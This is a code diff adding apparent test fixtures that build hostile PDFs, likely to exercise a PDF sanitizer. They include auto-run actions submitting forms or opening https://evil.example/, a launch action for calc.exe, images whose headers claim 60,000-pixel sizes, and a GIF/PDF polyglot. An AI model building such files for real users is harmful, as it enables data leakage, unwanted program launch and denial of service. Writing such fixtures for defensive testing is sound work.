@@ -141,6 +141,79 @@ export function withLaunchAction(): Buffer {
   return buildSimplePdf({ catalog: '/OpenAction << /S /Launch /F (calc.exe) >>' });
 }
 
+/** Actions that nobody presses, by name of the place where they wait. */
+export const automaticActions = {
+  openAction: () => buildSimplePdf({ catalog: '/OpenAction << /S /URI /URI (https://evil.example/) >>' }),
+  openForm: () =>
+    buildSimplePdf({ catalog: '/OpenAction 6 0 R', extra: ['<< /S /SubmitForm /F (https://evil.example/) >>'] }),
+  pageShown: () => buildSimplePdf({ page: '/AA << /O << /S /GoToR /F (other.pdf) /D [0 /Fit] >> >>' }),
+  documentEvent: () => buildSimplePdf({ catalog: '/AA << /WP << /S /ImportData /F (data.fdf) >> >>' }),
+  afterAnother: () =>
+    buildSimplePdf({
+      catalog: '/OpenAction << /S /GoTo /D [5 0 R /Fit] /Next [<< /S /URI /URI (https://evil.example/) >>] >>',
+    }),
+  fieldEntered: () =>
+    buildSimplePdf({
+      catalog: '/AcroForm << /Fields [6 0 R] >>',
+      extra: ['<< /FT /Tx /T (a) /AA << /Fo << /S /SubmitForm /F (https://evil.example/) >> >> >>'],
+    }),
+} satisfies Record<string, () => Buffer>;
+
+const bigEndian = (...numbers: number[]): Buffer => {
+  const bytes = Buffer.alloc(4 * numbers.length);
+  numbers.forEach((number, index) => bytes.writeUInt32BE(number, 4 * index));
+  return bytes;
+};
+
+/** Pictures that claim 60,000 pixels a side in their own header, while their dictionary says 600; none can be drawn. */
+export const vastPictures = {
+  jpeg2000: () =>
+    showPicture(
+      'JPXDecode',
+      Buffer.concat([
+        Buffer.from('ff4fff51002f0000', 'hex'),
+        bigEndian(60_000, 60_000, 0, 0, 60_000, 60_000, 0, 0),
+        Buffer.from('0003070101070101070101', 'hex'),
+      ]),
+    ),
+  jbig2: () =>
+    showPicture(
+      'JBIG2Decode',
+      Buffer.concat([
+        Buffer.from('00000000300001', 'hex'),
+        bigEndian(19, 100_000, 60_000, 0, 0),
+        Buffer.from('000000', 'hex'),
+      ]),
+    ),
+  jpeg: () => showPicture('DCTDecode', Buffer.from('ffd8ffc0001108ea60ea6003011100021100031100ffda', 'hex')),
+  packedJpeg: () =>
+    showPicture(
+      'FlateDecode /DCTDecode',
+      deflateSync(Buffer.from('ffd8ffc2001108ea60ea6003011100021100031100ffda', 'hex')),
+    ),
+} satisfies Record<string, () => Buffer>;
+
+function showPicture(filters: string, data: Buffer): Buffer {
+  const size = '/Width 600 /Height 600 /BitsPerComponent 8 /ColorSpace /DeviceRGB';
+  const picture = { dictionary: `/Type /XObject /Subtype /Image ${size} /Filter [/${filters}]`, data };
+  return buildSimplePdf({
+    resources: '/XObject << /I 6 0 R >>',
+    content: '600 0 0 600 0 0 cm /I Do',
+    extra: [picture],
+  });
+}
+
+/** A picture for one program, a contract for the next. */
+export function gifAndPdf(): Buffer {
+  return Buffer.concat([Buffer.from('GIF89a\x01\0\x01\0\x80\0\0\xff\xff\xff\0\0\0!\xfe', 'latin1'), buildSimplePdf()]);
+}
+
+/** The second of its two pages is not there. */
+export function missingSecondPage(): Buffer {
+  const whole = buildSimplePdf().toString('latin1');
+  return Buffer.from(whole.replace('/Kids [5 0 R] /Count 1', '/Kids [5 0 R 99 0 R] /Count 2'), 'latin1');
+}
+
 export function withXfa(): Buffer {
   const packet = { dictionary: '', data: '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"/>' };
   return buildSimplePdf({ catalog: '/AcroForm << /Fields [] /XFA 6 0 R >>', extra: [packet] });
